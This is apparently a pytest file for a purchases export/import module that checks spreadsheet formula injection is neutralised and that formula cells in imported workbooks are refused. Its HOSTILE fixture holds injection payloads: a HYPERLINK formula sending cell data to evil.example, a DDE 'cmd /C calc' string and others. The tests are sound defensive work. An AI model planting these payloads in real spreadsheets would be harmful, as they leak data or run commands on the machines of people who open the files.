"""The purchases file format: formula injection neutralised, rows that know where they are."""

import csv
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from catalogue_app.domain.errors import CatalogueError
from catalogue_app.interchange.comparison import Block, write_comparison_csv
from catalogue_app.interchange.purchases import (
    EXPORT_COLUMNS,
    TEMPLATE_COLUMNS,
    TEMPLATE_EXAMPLE,
    read_purchase_rows,
    write_purchases_csv,
    write_purchases_xlsx,
    write_template,
)

HOSTILE = {
    "order_reference": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "notes": "+cmd|' /C calc'!A0",
    "void_reason": "-2+3",
    "supplier": "@SUM(A1:A9)",
    "recorded_by": "\tofficer",
    "split": "\r=1+1",
}
# XML has no bare carriage return: a workbook gives back a line feed in its place
IN_XLSX = {k: v.replace("\r", "\n") for k, v in HOSTILE.items()}


def record(**changes):
    values = {
        "id": "7c9e6679-7425-40de-944b-e07fc1f90ae7",
        "order_reference": "NOR/1",
        "buyer": "norfolk",
        "product": "ATHENA",
        "framework": "ESSEX-ATHENA",
        "lot": "1",
        "quantity": 3,
        "unit_price": Decimal("480.00"),
        "baseline_unit_price": Decimal("400.00"),
        "order_date": date(2025, 6, 1),
        "split": "",
        "notes": "",
        "status": "active",
        "void_reason": "",
        "supplier": "Northgate",
        "total": Decimal("1440.00"),
        "saving": Decimal("-240.00"),
        "recorded_by": "officer",
        "recorded_at": datetime(2025, 6, 1, 9, 30, tzinfo=UTC),
    }
    values.update(changes)
    return values


def test_csv_export_neutralises_formulas_and_keeps_numbers(tmp_path):
    path = tmp_path / "purchases.csv"
    write_purchases_csv([record(**HOSTILE)], path)
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0]) == EXPORT_COLUMNS
    for column, text in HOSTILE.items():
        assert rows[0][column] == "'" + text
    assert rows[0]["saving"] == "-240.00"  # a negative amount stays a number
    assert rows[0]["quantity"] == "3" and rows[0]["unit_price"] == "480.00"


def test_xlsx_export_writes_formulas_as_text_and_money_as_numbers(tmp_path):
    path = tmp_path / "purchases.xlsx"
    write_purchases_xlsx([record(**HOSTILE)], path)
    sheet = load_workbook(path).worksheets[0]
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    for column, text in IN_XLSX.items():
        assert cells[column].data_type == "s"
        assert cells[column].value == "'" + text
    assert cells["saving"].value == -240 and cells["saving"].data_type == "n"
    assert cells["total"].number_format == '"£"#,##0.00'
    assert cells["order_date"].value.date() == date(2025, 6, 1)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_neutralised_text_reads_back_as_it_was(tmp_path, suffix):
    path = tmp_path / f"purchases{suffix}"
    writer = write_purchases_csv if suffix == ".csv" else write_purchases_xlsx
    writer([record(**HOSTILE)], path)
    (row,) = read_purchase_rows(path)
    assert (row.source, row.row) == (path.name, 2)
    for column, text in HOSTILE.items():
        if suffix == ".xlsx" and text.startswith("\r"):
            assert row.values[column] == "'" + IN_XLSX[column]  # inert, never a formula
        else:
            assert row.values[column] == text


def test_rows_know_their_file_and_spreadsheet_row(tmp_path):
    path = tmp_path / "in.csv"
    path.write_text("order_reference,buyer\nA,norfolk\n\nB,suffolk\n", encoding="utf-8")
    rows = read_purchase_rows(path)
    assert [(r.row, r.values["order_reference"]) for r in rows] == [(2, "A"), (4, "B")]


def test_a_header_naming_a_column_twice_is_refused(tmp_path):
    path = tmp_path / "in.csv"
    path.write_text("buyer,quantity,quantity\nnorfolk,1,2\n", encoding="utf-8")
    with pytest.raises(CatalogueError, match="in.csv: the column “quantity” appears twice"):
        read_purchase_rows(path)


def test_an_xlsx_formula_cell_is_refused_naming_the_cell(tmp_path):
    path = tmp_path / "in.xlsx"
    book = Workbook()
    sheet = book.active
    sheet.append(["order_reference", "unit_price", "notes"])
    sheet.append(["A", "=1+1", "fine"])
    book.save(path)
    with pytest.raises(CatalogueError, match=r"in.xlsx, cell B2 \(unit_price\) holds a formula"):
        read_purchase_rows(path)


def test_random_bytes_named_xlsx_are_refused_with_the_file_name(tmp_path):
    path = tmp_path / "in.xlsx"
    path.write_bytes(b"\x00\x01 not a workbook" * 10)
    with pytest.raises(CatalogueError, match="in.xlsx is not an Excel workbook: it is not a zip"):
        read_purchase_rows(path)


def test_the_template_is_a_valid_import_header_with_an_example(tmp_path):
    path = tmp_path / "template.csv"
    write_template(path)
    (row,) = read_purchase_rows(path)
    assert list(row.values) == TEMPLATE_COLUMNS
    assert row.values == TEMPLATE_EXAMPLE
    with pytest.raises(CatalogueError, match="exists; use --force"):
        write_template(path)


def test_comparison_csv_blocks_and_neutralised_names(tmp_path):
    path = tmp_path / "comparison.csv"
    blocks = [
        Block(None, ["attribute", "A", "B"], [["Name", "=evil()", "Plain"]]),
        Block("Routes for A at 5", ["Route", "Total"], [["RM6100 lot 2", Decimal("-1.50")]]),
    ]
    write_comparison_csv(blocks, path)
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows == [
        ["attribute", "A", "B"],
        ["Name", "'=evil()", "Plain"],
        [],
        ["Routes for A at 5"],
        ["Route", "Total"],
        ["RM6100 lot 2", "-1.50"],
    ]
